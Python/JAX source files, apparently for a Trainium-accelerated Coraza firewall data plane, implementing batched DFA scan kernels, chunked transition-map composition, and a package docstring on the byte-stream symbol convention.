    final, _ = jax.lax.scan(step, state0, symbols.T)
    return final


def onehot_matmul_scan(tables, classes, starts, lane_matcher, symbols,
                       dtype=jnp.bfloat16):
    """TensorE formulation. Same I/O contract as gather_scan.

    The transition tensor is precomputed as T2[m, s*C+c, j] = 1 iff
    T[m,s,c]=j. Each step: one elementwise outer product (VectorE) and one
    batched matmul (TensorE). The one-hot state stays exactly one-hot —
    0/1 arithmetic is exact in bf16.
    """
    tables, classes, starts, lane_matcher, symbols = map(
        jnp.asarray, (tables, classes, starts, lane_matcher, symbols))
    M, S, C = tables.shape
    # T2: [M, S*C, S] one-hot of next-state
    t2 = jax.nn.one_hot(tables.reshape(M, S * C), S, dtype=dtype)
    lane_t2 = t2[lane_matcher]  # [N, S*C, S] (gathered once, outside scan)
    lane_cls = classes[lane_matcher]  # [N, 259]
    state0 = jax.nn.one_hot(starts[lane_matcher], S, dtype=dtype)  # [N, S]

    def step(state, sym_col):
        cls = jnp.take_along_axis(lane_cls, sym_col[:, None], axis=1)[:, 0]
        cls_oh = jax.nn.one_hot(cls, C, dtype=dtype)  # [N, C]
        outer = (state[:, :, None] * cls_oh[:, None, :]).reshape(
            state.shape[0], S * C)  # [N, S*C]
        nxt = jnp.einsum("nk,nkj->nj", outer, lane_t2,
                         preferred_element_type=dtype)
        return nxt, None

    final, _ = jax.lax.scan(step, state0, symbols.T)
    return jnp.argmax(final, axis=1).astype(jnp.int32)


# Backend loop constraints (both observed on trn2 silicon):
#  - neuronx-cc rejects dynamic `while` outright (NCC_EUOC002), so every
#    scan must have a static length and gets fully unrolled;
#  - >~512 chained gathers in one NEFF overflow a 16-bit semaphore
#    counter (ICE: "bound check failure ... instr.semaphore_wait_value").
# Hence: streams up to MAX_UNROLL symbols run as ONE fused program;
# longer streams chain MAX_UNROLL-sized block programs with carried
# state, dispatched back-to-back without host sync (async device chaining).
MAX_UNROLL = 256


def fused_screen_scan(table, classes, masks, symbols):
    """Single-program union-screen scan over the full (static) stream
    length; see screen_scan_with_state for the semantics. Caller must keep
    symbols.shape[1] <= MAX_UNROLL."""
    table, classes, masks, symbols = map(
        jnp.asarray, (table, classes, masks, symbols))
    N = symbols.shape[0]
    state0 = jnp.zeros((N,), jnp.int32)
    acc0 = jnp.zeros((N, masks.shape[1]), jnp.int32)
    _, acc = screen_scan_with_state(
        table, classes, masks, symbols, state0, acc0)
    return acc


def screen_scan_with_state(table, classes, masks, symbols, state0, acc0):
    """Union-screen chunk scan: ONE automaton shared by every lane, with
    per-state output masks OR-accumulated along the way.

    table [S, C] i32, classes [259] i32, masks [S, W] i32,
    symbols [N, Lc] i32, state0 [N] i32, acc0 [N, W] i32
    -> (final states [N], acc [N, W]).

    Two gathers per step (next state, mask row) on a handful of lanes per
    request — versus one gather per step on one lane per MATCHER in the
    dedicated scan. compiler/screen.py explains the screening contract.
    """
    table, classes, masks, symbols, state0, acc0 = map(
        jnp.asarray, (table, classes, masks, symbols, state0, acc0))
    S, C = table.shape
    flat = table.reshape(S * C)

    def step(carry, sym_col):
        state, acc = carry
        cls = classes[sym_col]
        nstate = flat[state * C + cls]
        acc = acc | masks[nstate]
        return (nstate, acc), None

    (final, acc), _ = jax.lax.scan(step, (state0, acc0), symbols.T)
    return final, acc


def onehot_matmul_scan_with_state(tables, classes, lane_matcher, symbols,
                                  state0, dtype=jnp.bfloat16):
    """TensorE formulation with caller-provided integer initial states —
    the carried-state chunk primitive (same contract as
    gather_scan_with_state, but the step is an outer-product + batched
    matmul instead of a gather)."""
    tables, classes, lane_matcher, symbols, state0 = map(
        jnp.asarray, (tables, classes, lane_matcher, symbols, state0))
    M, S, C = tables.shape
    t2 = jax.nn.one_hot(tables.reshape(M, S * C), S, dtype=dtype)
    lane_t2 = t2[lane_matcher]  # [N, S*C, S]
    lane_cls = classes[lane_matcher]  # [N, 259]
    state = jax.nn.one_hot(state0, S, dtype=dtype)  # [N, S]

    def step(state, sym_col):
        cls = jnp.take_along_axis(lane_cls, sym_col[:, None], axis=1)[:, 0]
        cls_oh = jax.nn.one_hot(cls, C, dtype=dtype)
        outer = (state[:, :, None] * cls_oh[:, None, :]).reshape(
            state.shape[0], S * C)
        nxt = jnp.einsum("nk,nkj->nj", outer, lane_t2,
                         preferred_element_type=dtype)
        return nxt, None

    final, _ = jax.lax.scan(step, state, symbols.T)
    return jnp.argmax(final, axis=1).astype(jnp.int32)


def match_bits(final_states, accepts, lane_matcher):
    """final [N], accepts [M] -> bool [N] (lane matched)."""
    final_states, accepts, lane_matcher = map(
        jnp.asarray, (final_states, accepts, lane_matcher))
    return final_states == accepts[lane_matcher]
