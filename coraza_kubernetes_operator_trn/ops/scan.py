"""Enumerative chunked DFA scan — the sequence-parallel primitive.

A DFA over a long stream is sequential in its carried state, but each
chunk's *transition function* (start-state -> end-state, an [S] int map) is
computable independently, and function composition is associative:

    f_chunk2 ∘ f_chunk1,  (f ∘ g)[s] = f[g[s]]

So a 10MB body (BASELINE.json config #5) splits into chunks scanned in
parallel — across positions on one core, or across devices with a
collective compose (parallel/sequence.py) — then log-depth composition
recovers the exact final state. This is the domain's ring-attention analog:
the composition maps are tiny ([S] ints), so the collective traffic is
negligible compared to the byte streams.

Enumerative cost: S× the work of a single scan per chunk, amortized by the
chunk-count parallelism — profitable when chunks >> S or when the
alternative is idle devices.
"""

from __future__ import annotations

import jax
import jax.numpy as jnp


def chunk_transition_maps(table, classes, symbols_chunks, init=None):
    """table [S,C] i32, classes [259] i32, symbols_chunks [K, Lc] i32 ->
    maps [K, S]: maps[k, s] = state after chunk k starting from s.

    Vectorized over (chunk, start-state) simultaneously: the scan carries
    [K, S] states — same gather kernel shape as the batched lane scan.
    `init` overrides the identity start map (shard_map callers pass a
    pcast-varying copy so the scan carry types line up).
    """
    table, classes, symbols_chunks = map(
        jnp.asarray, (table, classes, symbols_chunks))
    S, C = table.shape
    flat = table.reshape(S * C)
    K = symbols_chunks.shape[0]
    if init is None:
        init = jnp.broadcast_to(jnp.arange(S, dtype=jnp.int32), (K, S))

    def step(states, sym_col):  # states [K,S], sym_col [K]
        cls = classes[sym_col]  # [K]
        idx = states * C + cls[:, None]
        return flat[idx], None

    final, _ = jax.lax.scan(step, init, symbols_chunks.T)
    return final


def compose_maps(maps):
    """maps [K, S] -> composed [S]: chunk K-1 ∘ ... ∘ chunk 0.

    Uses an associative scan (log-depth) — on device this is gather-
    composition; across devices parallel/sequence.py does the same compose
    over a collective-permuted axis.
    """

    def combine(a, b):
        # left-to-right prefix: a = earlier chunks, b = later chunk;
        # result applies a first, then b: (b ∘ a)[s] = b[a[s]]
        return jnp.take_along_axis(b, a, axis=-1)

    composed = jax.lax.associative_scan(combine, maps, axis=0)
    return composed[-1]


def chunked_match(table, classes, start, accept, symbols, chunk_len):
    """Reference composition path: scan `symbols` [L] in chunks of
    chunk_len (L % chunk_len == 0) and compose. Equals a direct scan."""
    L = symbols.shape[0]
    assert L % chunk_len == 0
    chunks = symbols.reshape(L // chunk_len, chunk_len)
    maps = chunk_transition_maps(table, classes, chunks)
    final_map = compose_maps(maps)
    return final_map[start] == accept
