"""jax device kernels for the trn data plane.

Symbol-stream convention (shared with compiler/nfa.py):

- 0..255   raw bytes
- 256 BOS  value-start marker (feeds ^ anchors)
- 257 EOS  value-end marker (feeds $ anchors; tables reset to start on
           non-accepting EOS so values are isolated)
- 258 PAD  inert filler; every prepared table gets an identity column for it

A lane is one (request, matcher) pair; its stream is
``BOS v1 EOS BOS v2 EOS ... PAD...``. Transformations operate on byte
symbols only (markers/PAD pass through), then the automaton scan consumes
the whole stream. The final carried state equals the matcher's accept state
iff any value matched — one comparison per lane, no per-position reductions.

Modules:
- ``packing``        host-side stream building + length bucketing
- ``transforms_jax`` vectorized byte transforms (masked elementwise +
                     cumsum stream compaction — VectorE-shaped work)
- ``automata_jax``   batched DFA stepping: gather mode (GpSimdE),
                     one-hot matmul mode (TensorE), and compose mode
                     (one-hot S×S transition maps prefix-composed by an
                     associative scan — log sequential depth, TensorE)
- ``scan``           enumerative chunked scan: per-chunk transition
                     functions composed associatively (the long-body /
                     sequence-parallel primitive compose mode
                     industrializes)
"""

from .packing import (  # noqa: F401
    PAD,
    SCAN_MODES,
    Pack,
    StridedTables,
    compose_stride,
    pack_streams,
    prepare_tables,
    resolve_scan_mode,
    resolve_stride,
)
